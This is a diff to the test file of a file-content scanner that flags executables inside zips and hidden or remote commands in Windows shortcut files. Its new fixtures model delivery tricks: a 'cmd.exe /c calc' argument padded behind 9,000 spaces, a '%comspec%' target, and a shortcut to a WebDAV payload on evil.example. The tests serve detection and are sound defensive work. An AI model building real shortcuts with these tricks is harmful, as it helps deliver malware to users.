@@ -227,7 +227,9 @@ describe('PDF', () => {
     ]);
   });
   test('words in a page are no action', async () => {
-    expect(await seen('a.pdf', '%PDF-1.4\n<< /Length 40 >> stream\n(/JavaScript /Launch) Tj\nendstream')).toEqual([]);
+    expect(
+      await seen('a.pdf', '%PDF-1.4\n1 0 obj << /Length 40 >> stream\n(/JavaScript /Launch) Tj\nendstream'),
+    ).toEqual([]);
   });
   test('payslip.pdf is locked', async () => {
     expect((await only('payslip.pdf', made('payslip.pdf'))).isEncrypted).toBe(true);
@@ -274,6 +276,17 @@ describe('archives of real tools', () => {
       'macro: Excel 4.0 macro sheet Macro1 in inner.zip/a.xls',
       'macro-auto-run: Auto_Open in inner.zip/a.xls',
     ]);
+  });
+  test('programs in a zip, by their bytes', async () => {
+    const windows = latin1(`MZ\x90\0${'\0'.repeat(80)}`);
+    expect(
+      await seen('a.zip', zipWith({ 'invoice.com': windows, 'a.dll': windows, b: '\x7fELF\x02\x01\x01\0\0' })),
+    ).toEqual([
+      'program: Windows program in invoice.com',
+      'program: Windows program in a.dll',
+      'program: Linux program in b',
+    ]);
+    expect(await seen('a.zip', zipWith({ 'notes.txt': 'MZ is how such files begin', 'a.py': 'print(1)' }))).toEqual([]);
   });
   test('photographs in a zip', async () => {
     const photo = Buffer.concat([latin1('\xff\xd8\xff\xe0'), Buffer.alloc(5_000, 7)]);
@@ -354,6 +367,15 @@ describe('shortcuts', () => {
     };
     return Buffer.concat([header, text(path), text(args)]);
   }
+  /** EnvironmentVariableDataBlock (§2.5.4). */
+  function environment(target: string): Buffer {
+    const block = Buffer.alloc(0x314);
+    block.writeUInt32LE(0x314, 0);
+    block.writeUInt32LE(0xa000_0001, 4);
+    block.write(target, 8, 'latin1');
+    block.write(target, 268, 'utf16le');
+    return block;
+  }
   test.each([
     [
       'a command',
@@ -366,6 +388,24 @@ describe('shortcuts', () => {
       'a.zip',
       zipWith({ 'a.lnk': link({ path: 'powershell.exe', args: '-w hidden' }) }),
       ['shortcut-command: powershell.exe -w hidden in a.lnk'],
+    ],
+    [
+      'a command behind nine thousand blanks',
+      'a.lnk',
+      link({ path: 'cmd.exe', args: `${' '.repeat(9_000)}/c calc` }),
+      ['shortcut-command: cmd.exe /c calc'],
+    ],
+    [
+      'a target with variables, which counts first',
+      'a.lnk',
+      Buffer.concat([link({ path: 'C:\\Projects', args: '' }), environment('%comspec%')]),
+      ['shortcut-command: %comspec%'],
+    ],
+    [
+      'a target elsewhere, likewise',
+      'a.lnk',
+      Buffer.concat([link({ path: 'C:\\Projects', args: '' }), environment('\\\\evil.example@80\\dav\\x.exe')]),
+      ['shortcut-remote: \\\\evil.example@80\\dav\\x.exe'],
     ],
     ['a folder', 'a.lnk', link({ path: 'C:\\Projects', args: '' }), []],
     ['a real one, to a program without words', 'calc.lnk', made('calc.lnk'), []],
